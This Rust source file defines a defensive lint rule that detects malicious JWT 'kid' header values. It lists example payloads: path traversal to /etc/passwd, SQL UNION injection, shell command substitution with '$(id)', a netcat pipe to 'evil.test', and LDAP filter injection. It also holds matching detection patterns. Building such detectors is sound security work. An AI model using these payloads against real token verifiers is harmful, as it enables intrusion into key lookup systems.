//! A key ID that is an attack.

use crate::rules::prelude::*;

pub(in crate::rules) static RULE: Rule = Rule {
    name: "kid-injection",
    group: Group::Header,
    severity: Severity::Warning,
    confidence: Confidence::Medium,
    persona: Persona::Everyone,
    summary: "kid looks like an attack on whatever looks keys up",
    why: "it reaches files, databases, directories and shells before the signature is checked",
    fix: "look the key up in a map by the whole kid, and refuse the rest",
    cites: &["RFC 8725 §3.10", "RFC 7515 §4.1.4"],
    known_problems: "",
    bad: &[
        Example::header(r#"{"alg":"ES256","kid":"../../../../dev/null"}"#),
        Example::header(r#"{"alg":"ES256","kid":"..\\..\\x"}"#),
        Example::header(r#"{"alg":"ES256","kid":"/etc/passwd"}"#),
        Example::header(r#"{"alg":"ES256","kid":"file:///etc/passwd"}"#),
        Example::header(r#"{"alg":"ES256","kid":"http://evil.test/key"}"#),
        Example::header(r#"{"alg":"ES256","kid":"%2e%2e%2fkey"}"#),
        Example::header(r#"{"alg":"ES256","kid":"x' UNION SELECT 'k';-- "}"#),
        Example::header(r#"{"alg":"ES256","kid":"1 union select 1"}"#),
        Example::header(r#"{"alg":"ES256","kid":"k\" OR \"1\"=\"1"}"#),
        Example::header(r#"{"alg":"ES256","kid":"key.pem; $(id)"}"#),
        Example::header(r#"{"alg":"ES256","kid":"a`id`"}"#),
        Example::header(r#"{"alg":"ES256","kid":"k | nc evil.test 1"}"#),
        Example::header(r#"{"alg":"ES256","kid":"*)(uid=*"}"#),
        Example::header(r#"{"alg":"ES256","kid":"k\u0000"}"#),
        Example::header(r#"{"alg":"ES256","kid":"k\r\nX: 1"}"#),
    ],
    good: &[
        Example::header(r#"{"alg":"ES256","kid":"2026-01"}"#),
        Example::header(r#"{"alg":"ES256","kid":"1234example/abc+def="}"#),
        Example::header(r#"{"alg":"ES256","kid":"did:example:abfe13f712120431c276e12ecab#keys-1"}"#),
        Example::header(r#"{"alg":"ES256","kid":"did:web:example.com:u/1"}"#),
        Example::header(r#"{"alg":"ES256","kid":"/lUyOBAK0j0HMBsMs+Tw7W2mGHK8gA=="}"#),
        Example::header(r#"{"alg":"ES256","kid":"https://as.example.com/keys/1"}"#),
        Example::header(r#"{"alg":"ES256","kid":"CoreATJWT.00DRM000000Hmmm.1690000000000"}"#),
        Example::header(
            r#"{"alg":"ES256","kid":"urn:ietf:params:oauth:jwk-thumbprint:sha-256:NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs"}"#,
        ),
        Example::header(r#"{"alg":"ES256","kid":"O'Neill key"}"#),
        Example::header(r#"{"alg":"ES256","kid":"arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab"}"#),
    ],
    judge: Judge::Token { applies: |case| case.header.is_some(), check },
};

fn check(case: &Case<'_>, hits: &mut Hits) {
    let Some(kid) = super::parameter(case, "kid") else { return };
    let Some(text) = kid.text().filter(|text| is_suspicious(text)) else { return };
    if let Some(what) = attack(&text.to_ascii_lowercase()) {
        hits.at(Place::header(kid), format!("kid has {what}"));
    }
}

/// Whether it has a character without which it is no attack.
fn is_suspicious(kid: &str) -> bool {
    kid.starts_with('/')
        || kid.contains(|c: char| c.is_ascii_control() || "'\"`|;$*%\\: ".contains(c))
        || kid.contains("..")
}

/// What of an attack is in it, if something is.
fn attack(kid: &str) -> Option<&'static str> {
    let has = |needles: &[&str]| needles.iter().any(|needle| kid.contains(needle));
    let begins = |starts: &[&str]| starts.iter().any(|start| kid.starts_with(start));
    let quoted = |word: &str| {
        let mut quotes = kid.match_indices(['\'', '"']);
        quotes.any(|(at, _)| kid[at + 1..].trim_start_matches([' ', ')']).starts_with(word))
    };
    if has(&["../", "..\\", "%2e%2e", "..%2f", "..%5c"]) {
        Some("a path that climbs out of its folder")
    } else if begins(&["/dev/", "/etc/", "/proc/", "/tmp/", "/var/"]) {
        Some("the path of a system file")
    } else if begins(&["file:", "http:", "ftp:", "gopher:", "php:", "data:", "\\\\"]) {
        Some("a URL that can be fetched")
    } else if kid.bytes().any(|byte| matches!(byte, 0 | b'\r' | b'\n')) || has(&["%00", "%0a", "%0d"]) {
        Some("a control character")
    } else if quoted("or ")
        || quoted("union")
        || quoted(";--")
        || quoted("; --")
        || quoted("--")
        || has(&["union select", "union all select"])
    {
        Some("a piece of SQL")
    } else if has(&["$(", "${", "`", "| "]) {
        Some("a piece of a shell command")
    } else if has(&["*)("]) {
        Some("a piece of an LDAP filter")
    } else {
        None
    }
}
